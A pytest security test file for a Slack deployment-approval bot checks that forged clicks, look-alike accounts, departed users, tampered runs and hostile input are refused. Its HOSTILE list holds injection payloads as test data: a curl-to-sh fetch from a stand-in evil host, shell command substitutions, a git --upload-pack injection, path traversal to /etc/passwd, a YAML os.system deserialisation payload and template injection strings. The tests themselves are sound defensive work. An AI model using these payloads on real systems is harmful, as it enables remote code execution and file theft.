"""Does nobody get something done who should not, and nothing done that was not agreed to?"""

import asyncio
from collections.abc import AsyncIterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from slack_sdk.errors import SlackApiError

from bot.actions.model import ActionKind, Run, RunState
from bot.actions.parameters import Parameter, ParameterType, accept
from bot.clock import HeldClock
from bot.errors import InputError, Refused
from bot.people import Person
from bot.slack.identity import REMEMBERED, Identity
from tests.scenarios.deployments import Deployments
from tests.slack.stage import NOON, Stage

HOSTILE = [
    "1.4.1; curl evil.example | sh",
    "$(touch /tmp/owned)",
    "`id`",
    "1.4.1\n  image: {name: evil/checkout}",
    '1.4.1", "admin": true, "x": "',
    "{{ config }}",
    "{% include 'run.j2' %}",
    "<!channel> <@U0123> *bold* ```",
    "--upload-pack=touch /tmp/owned",
    "../../etc/passwd",
    "&anchor *alias !!python/object/apply:os.system [id]",
    "1.4.1\u2028Approved-by: T1/UEVE",
    "\u202e1.4.1",
    "A" * 5_000,
]


@pytest.fixture
def deployments(tmp_path: Path) -> Deployments:
    made = Deployments(tmp_path, {"checkout": "1.4.1"})
    made.commit("checkout", "1.4.2")
    return made


@pytest_asyncio.fixture
async def stage(deployments: Deployments) -> AsyncIterator[Stage]:
    async with Stage(executors={"shop": deployments.executor}, **deployments.settings()) as made:
        yield made


def ask(stage: Stage, who: str = "ana", version: str = "1.5.0") -> Run:
    return stage.engine.runs.ask(ActionKind.DEPLOY, "checkout", {"version": version}, stage.person(who))


# -- what is typed


@pytest.mark.parametrize("hostile", HOSTILE)
async def test_hostile_text_is_refused_or_stays_a_value(stage: Stage, deployments: Deployments, hostile: str) -> None:
    before = deployments.version("checkout")
    with pytest.raises(InputError):
        ask(stage, version=hostile)
    assert deployments.version("checkout") == before


@pytest.mark.parametrize("hostile", HOSTILE)
async def test_hostile_words_after_a_command_ping_nobody(stage: Stage, hostile: str) -> None:
    stage.deliver()
    ana = stage.people.as_("ana").in_("#incidents")
    await ana.types(f"/rollback {' '.join(hostile.split())[:2000]}")
    await ana.expects_ephemeral("There is no")
    shown = str([call["response"] for call in stage.calls("chat.postEphemeral")])
    assert "<!channel>" not in shown


def test_a_value_outside_its_bounds_is_refused_with_its_name() -> None:
    size = Parameter("size", ParameterType.NUMBER, minimum=1, maximum=10)
    fixed, region = Parameter("region", fixed="eu"), Parameter("zone", choices=("a", "b"))
    wrong: list[Mapping[str, str]] = [
        {"size": "11"}, {"size": "0"}, {"size": "1e3"}, {"size": "٣"}, {"size": "NaN"}, {"region": "us"},
        {"zone": "c"}, {"zone": "a "*300}, {"unknown": "1"}, {"requested_by": "T1/UEVE"},
    ]  # fmt: skip
    for given in wrong:
        with pytest.raises(InputError) as caught:
            accept((size, fixed, region), given, NOON, NOON.tzinfo)  # type: ignore[arg-type]
        assert caught.value.place == next(iter(given))


# -- clicks


async def test_a_click_that_is_delivered_again_counts_once(stage: Stage) -> None:
    stage.deliver()
    run = ask(stage)
    ben = stage.people.as_("ben").in_("#incidents")
    plan = ben.message("*Deploy checkout*")
    await plan.press("Approve")
    await plan.expects("It starts now")
    with pytest.raises(Refused, match="already_approved"):
        stage.engine.runs.approve(run.id, stage.person("ben"))
    with stage.engine.store.read() as tx:
        assert [e.what for e in tx.records.audit_of(f"run:{run.id}")] == ["run.asked", "run.approved"]


async def test_a_forged_click_names_nobody_who_may(stage: Stage) -> None:
    run = ask(stage)
    ana = stage.person("ana")
    forged = [
        Person("T0OTHER", stage.person("ben").user),  # the same user id in another workspace
        Person("", stage.person("ben").user),
        Person(ana.team, ana.user, is_bot=True),
        Person(ana.team, ana.user),  # the asker
    ]
    for person in forged:
        with pytest.raises(Refused):
            stage.engine.runs.approve(run.id, person)
    with stage.engine.store.read() as tx:
        assert tx.runs.get(run.id).state is RunState.ASKED


async def test_a_second_account_that_looks_the_same_is_another_person_and_needs_the_role(
    deployments: Deployments,
) -> None:
    """Names are never looked at: "Ana" with another user id is a stranger."""
    async with Stage(executors={"shop": deployments.executor}, **deployments.settings()) as stage:
        policy = replace(stage.engine.policy, operators=frozenset({stage.person("ana").key}))
        look_alike = Person(stage.side.team, "U0LOOKALIKE")
        assert policy.may_approve(look_alike, ask(stage, "ben")).reason == "not_an_operator"


async def test_an_approval_does_not_hold_for_another_world(stage: Stage, deployments: Deployments) -> None:
    run = ask(stage)
    stage.engine.runs.approve(run.id, stage.person("ben"))
    deployments.commit("checkout", "1.4.9")
    await asyncio.to_thread(stage.engine.runs.work, "w")
    done = stage.engine.reading.run(run.id).run
    assert done.state is RunState.FAILED
    assert "checkout is at 1.4.9 now" in done.error
    assert deployments.version("checkout") == "1.4.9"


async def test_a_run_that_was_changed_in_the_database_is_not_done(stage: Stage, deployments: Deployments) -> None:
    run = ask(stage)
    stage.engine.runs.approve(run.id, stage.person("ben"))
    with stage.engine.store.write() as tx:
        stored = tx.runs.get(run.id)
        forged = replace(stored.steps[0].plan, after="6.6.6")
        changed = replace(stored, plan=forged, steps=(replace(stored.steps[0], plan=forged),))
        tx.runs.save(changed, expected_state=RunState.APPROVED)
    await asyncio.to_thread(stage.engine.runs.work, "w")
    assert stage.engine.reading.run(run.id).run.error == "changed_since_approval"
    assert deployments.version("checkout") == "1.4.2"


# -- who it is, as Slack says


class People:
    """Slack's answers about people, groups and channels."""

    def __init__(self, **found: Any) -> None:
        self.found, self.asked = found, 0

    async def users_info(self, user: str) -> dict[str, Any]:
        self.asked += 1
        return {"user": self.found.get(user, {})}

    async def usergroups_users_list(self, usergroup: str) -> dict[str, Any]:
        if usergroup not in self.found:
            raise SlackApiError("x", {"error": "missing_scope"})  # type: ignore[no-untyped-call]
        return {"users": self.found[usergroup]}

    async def conversations_info(self, channel: str) -> dict[str, Any]:
        if channel not in self.found:
            raise SlackApiError("x", {"error": "channel_not_found"})  # type: ignore[no-untyped-call]
        return {"channel": self.found[channel]}


def identity(people: People, *named: str) -> tuple[Identity, HeldClock]:
    clock = HeldClock(NOON)
    return Identity(people, clock, frozenset(named)), clock  # type: ignore[arg-type]


async def test_somebody_who_left_may_nothing_even_when_the_settings_name_them() -> None:
    who, _ = identity(People(UANA={"deleted": True}), "T1/UANA", "T1/*")
    assert (await who.of("T1", "UANA")).team == ""


async def test_somebody_who_leaves_is_noticed_within_minutes() -> None:
    people = People(UANA={})
    who, clock = identity(people, "T1/UANA")
    assert (await who.of("T1", "UANA")).team == "T1"
    people.found["UANA"] = {"deleted": True}
    clock.advance(REMEMBERED)
    assert (await who.of("T1", "UANA")).team == ""


async def test_a_bots_click_is_a_bots() -> None:
    who, _ = identity(People(UBOT={"is_bot": True}), "T1/UBOT", "T1/*")
    assert (await who.of("T1", "UBOT")).is_bot


async def test_groups_are_asked_by_their_id_and_one_that_cannot_be_asked_is_empty() -> None:
    who, _ = identity(People(UANA={}, SOWNERS=["UANA"]), "SOWNERS", "SGONE", "T1/*")
    assert (await who.of("T1", "UANA")).groups == ("SOWNERS",)


async def test_a_channel_that_is_shared_with_another_organisation_is_known() -> None:
    shared, pending, own = {"is_ext_shared": True}, {"is_pending_ext_shared": True}, {"is_private": True}
    who, _ = identity(People(C1=shared, C2=pending, C3=own))
    assert [await who.is_shared(channel) for channel in ("C1", "C2", "C3", "C4")] == [True, True, False, False]


async def test_in_a_shared_channel_nothing_is_asked_for(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    async def is_shared(self: Identity, channel: str) -> bool:
        return True

    monkeypatch.setattr(Identity, "is_shared", is_shared)
    stage.deliver()
    ana = stage.people.as_("ana").in_("#incidents")
    await ana.types("/deploy checkout 1.5.0")
    await ana.expects_ephemeral("shared with another organisation")
    await ana.types("/tocsin status")
    await ana.expects_ephemeral("Nothing is open")
    with stage.engine.store.read() as tx:
        assert tx.runs.of(0) == []
